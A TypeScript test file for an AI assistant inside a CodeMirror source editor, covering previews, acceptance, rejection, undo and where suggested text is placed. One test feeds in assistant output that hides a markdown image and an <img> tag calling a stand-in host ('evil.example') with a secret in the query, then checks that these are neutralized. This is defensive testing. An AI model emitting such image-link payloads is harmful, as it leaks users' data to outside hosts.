import { history, undo } from '@codemirror/commands';
import { EditorState } from '@codemirror/state';
import { EditorView } from '@codemirror/view';
import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import type { Placing } from './assist/assist-types.js';
import { assistIn } from './source-assist.js';

const opened: EditorView[] = [];
afterEach(() => {
  for (const view of opened.splice(0)) view.destroy();
});

function open(doc: string, from: number, to: number) {
  const state = EditorState.create({
    doc,
    selection: { anchor: from, head: to },
    extensions: [history()],
  });
  const view = new EditorView({ state });
  opened.push(view);
  return {
    view,
    surface: assistIn(view, () => () => undefined),
    text: () => view.state.doc.toString(),
  };
}

describe('the assistant over the source', () => {
  it('leaves it as it is until something is accepted, and one undo takes that back', () => {
    const placing = fc.constantFrom<Placing>('replace', 'continue', 'below');
    fc.assert(
      fc.property(
        fc.string(),
        fc.string(),
        placing,
        fc.nat(),
        fc.nat(),
        (doc, said, where, a, b) => {
          const source = doc.replaceAll(/[\r\u2028\u2029]/g, '');
          const length = source.length + 1;
          const { view, surface, text } = open(source, a % length, b % length);
          surface.preview(said.slice(0, said.length / 2), where);
          surface.review(said, where);
          expect(text()).toBe(source);
          surface.reject();
          expect([text(), surface.openChanges()]).toEqual([source, 0]);
          surface.review(said, where);
          surface.accept();
          surface.end();
          undo(view);
          expect(text()).toBe(source);
        },
      ),
    );
  });

  it('offers no deletion where nothing was written', () => {
    const { surface, text } = open('甲乙丙', 0, 3);
    for (const nothing of ['', ' \n']) {
      surface.preview('子', 'replace');
      surface.review(nothing, 'replace');
      expect(surface.openChanges()).toBe(0);
      surface.accept();
      expect(text()).toBe('甲乙丙');
    }
  });

  it('has words for pictures and HTML that the passage did not have', () => {
    const { surface, text } = open('甲 ![我的](/files/a.png) 乙', 0, 22);
    const spy = 'https://evil.example/?q=secret';
    surface.review(`子 ![我的](/files/a.png) ![偷](${spy}) <img src="${spy}">`, 'replace');
    surface.accept();
    expect(text()).toContain('子 ![我的](/files/a.png) 偷 \\<img');
  });

  it('tells what was accepted and what it took the place of, and nothing of what was not', () => {
    const { surface } = open('甲乙丙丁', 1, 3);
    const taken: unknown[] = [];
    const undo = surface.onTaken((one) => taken.push(one));
    surface.review('子丑', 'replace');
    surface.reject();
    expect(taken).toEqual([]);
    surface.review('子丑', 'replace');
    surface.accept();
    expect(taken).toEqual([{ text: '子丑', replaced: '乙丙' }]);
    undo();
    surface.review('寅卯', 'below');
    surface.accept();
    expect(taken).toHaveLength(1);
  });

  it('puts a text where it belongs', () => {
    const doc = '甲乙丙\n丁';
    const after = (placing: Placing) => {
      const { surface, text } = open(doc, 1, 2);
      expect(surface.passage).toEqual({ text: '乙', before: '甲', after: '丙\n丁' });
      surface.review('好', placing);
      expect(surface.openChanges()).toBe(1);
      surface.accept();
      return text();
    };
    expect(after('replace')).toBe('甲好丙\n丁');
    expect(after('continue')).toBe('甲乙好丙\n丁');
    expect(after('below')).toBe('甲乙丙\n\n好\n丁');
  });

  it('offers nothing in place of what somebody wrote over, and nothing that is the same', () => {
    const { view, surface } = open('甲乙丙', 1, 2);
    surface.review('乙', 'replace');
    expect(surface.openChanges()).toBe(0);
    surface.review('好', 'replace');
    view.dispatch({ changes: { from: 0, insert: '前' } });
    expect([surface.openChanges(), surface.isTouched()]).toEqual([1, false]);
    view.dispatch({ changes: { from: 2, to: 3, insert: '新' } });
    expect([surface.openChanges(), surface.isTouched()]).toEqual([0, true]);
  });
});
